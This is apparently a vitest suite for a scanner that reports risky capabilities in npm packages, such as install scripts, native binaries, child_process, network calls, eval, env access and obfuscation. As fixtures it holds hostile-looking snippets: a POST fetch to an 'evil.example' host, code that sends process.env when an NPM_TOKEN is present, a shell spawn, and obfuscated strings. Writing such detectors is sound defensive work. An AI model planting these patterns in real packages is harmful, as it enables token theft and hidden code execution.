import { describe, expect, it } from 'vitest'
import { scanPackage, scanPackageWithStats, MAX_PARSE_BYTES } from '../../../lib/evidence/scan/capabilities.js'
import { caps, pkg } from './helpers.js'

const ELF = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0])

function findings (r: ReturnType<typeof scanPackage>, capability: string) {
  return r.findings.filter(f => f.capability === capability)
}

describe('scanPackage: a plain package', () => {
  it('finds nothing in a package that only talks about capabilities', () => {
    const r = scanPackage(pkg({
      'README.md': 'This package never uses child_process, eval() or fetch(). require("child_process") is not here.',
      'index.js': [
        '// we do not use child_process or require("child_process") here',
        '/* eval(x); new Function("a"); process.env.SECRET; fetch(url) */',
        "'use strict'",
        "const local = require('./local')",
        "const other = require(`./other`)",
        "const url = 'http://example.com/child_process?eval=1'",
        "const msg = \"require('child_process') is dangerous; also import('net')\"",
        'obj.eval(1); client.fetch(url); cache.require(x); foo.Function(1)',
        "const o = { WebSocket: 1, fetch: 2 }; o.WebSocket; class A { XMLHttpRequest () {} }",
        'module.exports = { local, other, url, msg }',
      ].join('\n'),
      'local.js': 'module.exports = 1',
      'other.js': 'export default 2',
      'data.json': JSON.stringify({ cmd: "require('child_process')", env: 'process.env.X', big: 'x'.repeat(5000) }),
      'types.d.ts': "import { exec } from 'child_process'; declare const x: typeof eval",
      'index.js.map': '{"mappings":"AAAA","sources":["child_process"]}',
    }))
    expect(r).toEqual({ capabilities: [], findings: [] })
  })

  it('does not parse files the text pass clears', () => {
    const { result, stats } = scanPackageWithStats(pkg({
      'a.js': 'module.exports = function add (a, b) { return a + b }',
      'b.js': "const a = require('./a'); module.exports = a(1, 2)",
      'c.mjs': "import a from './a.js'; export default a",
    }))
    expect(result.capabilities).toEqual([])
    expect(stats).toMatchObject({ jsFiles: 3, prefiltered: 3, parsed: 0 })
  })
})

describe('install scripts and bin', () => {
  it('reports declared install scripts', () => {
    const r = scanPackage(pkg({}, { name: 'p', version: '1.0.0', scripts: { postinstall: 'node setup.js', test: 'vitest', prepare: 'tsc' } }))
    expect(caps(r)).toEqual(['install-scripts'])
    expect(findings(r, 'install-scripts')).toEqual([
      { capability: 'install-scripts', file: 'package.json', detail: 'postinstall: node setup.js' },
      { capability: 'install-scripts', file: 'package.json', detail: 'prepare: tsc' },
    ])
  })

  it('counts prepare only for packages built from source', () => {
    const manifest = { name: 'p', scripts: { prepare: 'tsc' } }
    const input = pkg({}, manifest)
    expect(caps(scanPackage({ ...input, entry: { source: 'registry' } }))).toEqual([])
    expect(caps(scanPackage({ ...input, entry: { source: 'git' } }))).toEqual(['install-scripts'])
  })

  it('treats a top-level binding.gyp as an implicit install script, and as native', () => {
    const r = scanPackage(pkg({ 'binding.gyp': "{ 'targets': [] }" }))
    expect(caps(r)).toEqual(['install-scripts', 'native'])
    expect(findings(r, 'install-scripts')[0]).toMatchObject({ file: 'binding.gyp', detail: 'install: node-gyp rebuild (implicit)' })
  })

  it('no implicit install when an install script is declared or gypfile is false', () => {
    const declared = scanPackage(pkg({ 'binding.gyp': '{}' }, { name: 'p', scripts: { install: 'prebuild-install' } }))
    expect(findings(declared, 'install-scripts').map(f => f.detail)).toEqual(['install: prebuild-install'])
    const off = scanPackage(pkg({ 'binding.gyp': '{}' }, { name: 'p', gypfile: false }))
    expect(caps(off)).toEqual(['native'])
  })

  it('reports bin entries, string and object forms', () => {
    const s = scanPackage(pkg({ 'cli.js': 'console.log(1)' }, { name: '@scope/tool', bin: './cli.js' }))
    expect(findings(s, 'bin')).toEqual([{ capability: 'bin', file: 'cli.js', detail: 'tool' }])
    const o = scanPackage(pkg({ 'bin/a': '#!/usr/bin/env node\n1', 'bin/b.js': '2' }, { name: 'x', bin: { a: 'bin/a', b: './bin/b.js' } }))
    expect(caps(o)).toEqual(['bin'])
    expect(findings(o, 'bin').map(f => f.file)).toEqual(['bin/a', 'bin/b.js'])
  })

  it('scans a bin script without a .js extension', () => {
    const r = scanPackage(pkg({ 'bin/run': "#!/usr/bin/env node\nrequire('child_process').spawn('sh')" }, { name: 'x', bin: { run: 'bin/run' } }))
    expect(caps(r)).toEqual(['child_process', 'bin'])
    expect(findings(r, 'child_process')[0]).toMatchObject({ file: 'bin/run', line: 2 })
  })
})

describe('native code', () => {
  it('flags .node add-ons without reading them', () => {
    const r = scanPackage(pkg({ 'build/Release/addon.node': 'not even read' }))
    expect(findings(r, 'native')).toEqual([{ capability: 'native', file: 'build/Release/addon.node', detail: 'native add-on (.node)' }])
  })

  it('flags ELF, Mach-O and PE files by magic bytes', () => {
    const macho = Uint8Array.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])
    const pe = new Uint8Array(0x90)
    pe.set([0x4d, 0x5a])
    pe[0x3c] = 0x80
    pe.set([0x50, 0x45, 0, 0], 0x80)
    const r = scanPackage(pkg({ 'vendor/tool': ELF, 'vendor/tool-mac': macho, 'vendor/tool.bin': pe }))
    expect(caps(r)).toEqual(['native'])
    expect(findings(r, 'native').map(f => f.detail)).toEqual(['ELF binary', 'Mach-O binary', 'PE binary'])
  })

  it('ignores magic bytes in files with a JS or text extension, and text that starts with MZ', () => {
    const r = scanPackage(pkg({ 'x.json': ELF, 'NOTES': 'MZ is a prefix, not a binary', 'java.class.bin': Uint8Array.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) }))
    expect(caps(r)).toEqual([])
  })

  it('falls back to the name when the bytes were not kept', () => {
    const input = pkg({ 'lib/libfoo.so.1': ELF, 'lib/blob': ELF })
    const r = scanPackage({ ...input, readFile: p => p === 'package.json' ? input.readFile(p) : undefined })
    expect(findings(r, 'native').map(f => f.file)).toEqual(['lib/libfoo.so.1'])
  })
})

describe('child_process, network, eval', () => {
  it('finds child_process in require, import, dynamic import and re-export', () => {
    for (const [file, src] of [
      ['a.js', "const cp = require('child_process')"],
      ['b.mjs', "import { exec } from 'node:child_process'"],
      ['c.js', "export async function f () { return import('child_process') }"],
      ['d.mjs', "export * from 'child_process'"],
      ['e.cjs', "const { createRequire } = require('module'); const r = createRequire(__filename); r('child_process')"],
      ['f.js', "module.require('child_process')"],
    ]) {
      const r = scanPackage(pkg({ [file]: src }))
      expect(caps(r), file).toContain('child_process')
      expect(findings(r, 'child_process')[0]).toMatchObject({ file, line: 1 })
    }
  })

  it('reports the line of the finding', () => {
    const r = scanPackage(pkg({ 'index.js': "'use strict'\n\n// spawn things\nconst { spawn } = require('child_process')\n" }))
    expect(findings(r, 'child_process')).toEqual([{ capability: 'child_process', file: 'index.js', line: 4, detail: "require('child_process')" }])
  })

  it('finds network modules and globals', () => {
    const cases: Record<string, string> = {
      'net.js': "require('net')",
      'http.mjs': "import http from 'node:http'",
      'https.js': "const h = require('https')",
      'h2.js': "require('http2')",
      'dgram.js': "require('dgram')",
      'tls.mjs': "import tls from 'tls'",
      'dns.js': "require('dns/promises')",
      'fetch.js': 'fetch("https://evil.example", { method: "POST" })',
      'gfetch.js': 'globalThis.fetch(u)',
      'ws.js': 'const s = new WebSocket(u)',
      'xhr.js': 'const x = new window.XMLHttpRequest()',
    }
    for (const [file, src] of Object.entries(cases)) {
      const r = scanPackage(pkg({ [file]: src }))
      expect(caps(r), file).toEqual(['network'])
    }
  })

  it('finds eval, Function and vm', () => {
    for (const src of ['eval(code)', '(0, eval)(code)', 'new Function("a", body)', 'Function("return this")()', "require('vm').runInNewContext(c)", "import vm from 'node:vm'"]) {
      expect(caps(scanPackage(pkg({ 'x.mjs': src }))), src).toEqual(['eval'])
    }
  })

  it('keeps at most three examples per capability', () => {
    const src = Array.from({ length: 10 }, (_, i) => `eval(c${i})`).join('\n')
    const r = scanPackage(pkg({ 'a.js': src, 'b.js': src }))
    const ev = findings(r, 'eval')
    expect(ev).toHaveLength(3)
    expect(ev.map(f => f.line)).toEqual([1, 2, 3])
  })
})

describe('dynamic require and env', () => {
  it('flags computed specifiers only', () => {
    const dyn = scanPackage(pkg({ 'a.js': 'const m = require(`./x-${a}`)', 'b.js': 'const m = require(name)', 'c.mjs': "const m = await import('./p/' + n)" }))
    expect(caps(dyn)).toEqual(['dynamic-require'])
    expect(findings(dyn, 'dynamic-require').map(f => f.detail)).toEqual(['require(`./x-${a}`)', 'require(name)', "import('./p/' + n)"])
    const lit = scanPackage(pkg({ 'a.js': "require('lit'); require(`lit`); require( 'x' )", 'b.mjs': "await import('lit')" }))
    expect(caps(lit)).toEqual([])
  })

  it('finds process.env access', () => {
    const r = scanPackage(pkg({ 'a.js': 'if (process.env.NPM_TOKEN) send(process.env)', 'b.js': 'const { env } = process', 'c.mjs': "import { env } from 'node:process'" }))
    expect(caps(r)).toEqual(['env'])
    expect(findings(r, 'env').map(f => f.detail)).toEqual(['process.env.NPM_TOKEN', 'process.env', '{ env } = process'])
  })
})

describe('obfuscation', () => {
  it('a minified but benign long line is not obfuscated', () => {
    const fn = 'function a(b,c){return b+c}var d=a(1,2),e="some text",f=[1,2,3].map(function(g){return g*2});'
    const line = fn.repeat(60)
    expect(line.length).toBeGreaterThan(5000)
    expect(caps(scanPackage(pkg({ 'dist/bundle.min.js': line })))).toEqual([])
  })

  it('an _0x obfuscated snippet is', () => {
    const src = "var _0x3a1f=['log','Hello'];(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3a1f,0x1b3));var _0x1c5b=function(_0x2d8f05,_0x4b81bb){return _0x3a1f[_0x2d8f05-0x0];};console[_0x1c5b('0x0')](_0x1c5b('0x1'));"
    const r = scanPackage(pkg({ 'index.js': src }))
    expect(caps(r)).toEqual(['obfuscated'])
    expect(findings(r, 'obfuscated')[0].detail).toMatch(/^_0x identifiers \(\d+\)$/)
  })

  it('hex-escaped readable strings are obfuscated, escaped binary tables are not', () => {
    const hidden = 'var s = "\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73"'
    expect(caps(scanPackage(pkg({ 'a.js': hidden })))).toEqual(['obfuscated'])
    const table = 'var t = "\\x00\\x01\\x02\\x03\\x04\\x05\\x06\\x07\\x08\\x0e\\x0f"'
    expect(caps(scanPackage(pkg({ 'a.js': table })))).toEqual([])
  })

  it('a long high-entropy string is obfuscated, an inline image or source map is not', () => {
    let seed = 7
    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648
    const b64 = Buffer.from(Array.from({ length: 600 }, () => Math.floor(rnd() * 256))).toString('base64')
    const r = scanPackage(pkg({ 'a.js': `module.exports = "${b64}"` }))
    expect(caps(r)).toEqual(['obfuscated'])
    expect(findings(r, 'obfuscated')[0].detail).toMatch(/^high-entropy string \(800 chars, 5\.\d\d bits\/char\)$/)
    expect(caps(scanPackage(pkg({ 'a.js': `module.exports = "data:image/png;base64,${b64}"` })))).toEqual([])
    expect(caps(scanPackage(pkg({ 'a.js': `module.exports = 1\n//# sourceMappingURL=data:application/json;base64,${b64}` })))).toEqual([])
    // long but low-entropy: prose, and hex
    expect(caps(scanPackage(pkg({ 'a.js': `module.exports = "${'the quick brown fox '.repeat(30)}"`, 'b.js': `x = "${Buffer.from(b64).toString('hex')}"` })))).toEqual([])
  })
})

describe('parsing only what may matter', () => {
  it('skips files that can only repeat what is already known with three examples', () => {
    const { result, stats } = scanPackageWithStats(pkg({
      'a.js': 'eval(a)\neval(b)\neval(c)',
      'b.js': 'eval(d)',
      'c.js': 'eval(e); process.env.X',
    }))
    // b.js: eval has its three examples, so its text pass does not even look for eval
    expect(stats).toMatchObject({ parsed: 2, prefiltered: 1 })
    expect(caps(result)).toEqual(['eval', 'env'])
  })

  it('does not read a file when nothing the text pass can report is still wanted', () => {
    const all = "require('child_process'); require('vm'); require('net'); require(x); process.env.A; var _0x1111, _0x2222, _0x3333\n"
    // three files give three examples of each (one _0x finding per file)
    const { result, stats } = scanPackageWithStats(pkg({ 'a.js': all, 'b.js': all, 'c.js': all, 'd.js': all }))
    expect(stats).toMatchObject({ parsed: 3, alreadyKnown: 1 })
    expect(caps(result)).toEqual(['child_process', 'network', 'eval', 'dynamic-require', 'env', 'obfuscated'])
  })

  it('keeps the same examples when the walk stops early', () => {
    // env is found in a.js (3 examples): b.js is parsed for network only, and
    // the walk stops at its third network use
    const a = 'process.env.A; process.env.B; process.env.C'
    const b = "fetch(a); process.env.D; fetch(b)\nnew WebSocket(u)\nfetch(c)"
    const r = scanPackage(pkg({ 'a.js': a, 'b.js': b, 'c.js': 'eval(x)' }))
    expect(findings(r, 'network')).toEqual([
      { capability: 'network', file: 'b.js', line: 1, detail: 'fetch()' },
      { capability: 'network', file: 'b.js', line: 1, detail: 'fetch()' },
      { capability: 'network', file: 'b.js', line: 2, detail: 'WebSocket' },
    ])
    expect(findings(r, 'env').map(f => f.file)).toEqual(['a.js', 'a.js', 'a.js'])
    expect(findings(r, 'eval')).toEqual([{ capability: 'eval', file: 'c.js', line: 1, detail: 'eval()' }])
  })

  it('a capability needs both the text pass and the parser', () => {
    // parsed because of eval(); `{ env: { a } } = process` is beyond the text pass, so not counted
    const r = scanPackage(pkg({ 'a.js': 'eval(a); const { env: { HOME } } = process' }))
    expect(caps(r)).toEqual(['eval'])
  })
})

describe('fallbacks', () => {
  it('uses the text pass, marked unparsed, when acorn cannot parse', () => {
    const jsx = "const cp = require('child_process')\nexport const App = () => <div>{process.env.X}</div>"
    const { result, stats } = scanPackageWithStats(pkg({ 'app.js': jsx }))
    expect(stats.unparsed).toBe(1)
    expect(caps(result)).toEqual(['child_process', 'env'])
    expect(result.findings[0]).toEqual({ capability: 'child_process', file: 'app.js', line: 1, detail: 'unparsed' })
  })

  it('does not parse files over 1 MB', () => {
    const big = `${'var a = 1;\n'.repeat(Math.ceil(MAX_PARSE_BYTES / 11))}// child_process\nrequire('child_process')\n`
    const { result, stats } = scanPackageWithStats(pkg({ 'big.js': big }))
    expect(stats).toMatchObject({ tooLarge: 1, parsed: 0 })
    expect(findings(result, 'child_process')).toEqual([{ capability: 'child_process', file: 'big.js', line: Math.ceil(MAX_PARSE_BYTES / 11) + 2, detail: 'unparsed' }])
  })

  it('parses sloppy scripts, hashbangs and top-level return/await', () => {
    const src = "#!/usr/bin/env node\nwith (o) { x = 010 }\nif (done) return\nrequire('net')"
    expect(caps(scanPackage(pkg({ 'a.js': src })))).toEqual(['network'])
    const { stats } = scanPackageWithStats(pkg({ 'a.js': src, 'b.mjs': "const m = await import('http')" }))
    expect(stats).toMatchObject({ parsed: 2, unparsed: 0 })
  })

  it('walks deeply nested code without recursion', () => {
    // member chains are parsed in a loop, but nest 50,000 deep
    const deep = `x = a${'.b'.repeat(50000)}; require('dgram')`
    const { result, stats } = scanPackageWithStats(pkg({ 'a.js': deep }))
    expect(caps(result)).toEqual(['network'])
    expect(stats.parsed).toBe(1)
  })

  it('falls back when even acorn runs out of stack', () => {
    const deep = `x = ${'['.repeat(20000)}${']'.repeat(20000)}; require('dgram')`
    const { result, stats } = scanPackageWithStats(pkg({ 'a.js': deep }))
    expect(stats.unparsed).toBe(1)
    expect(result.findings).toEqual([{ capability: 'network', file: 'a.js', line: 1, detail: 'unparsed' }])
  })
})
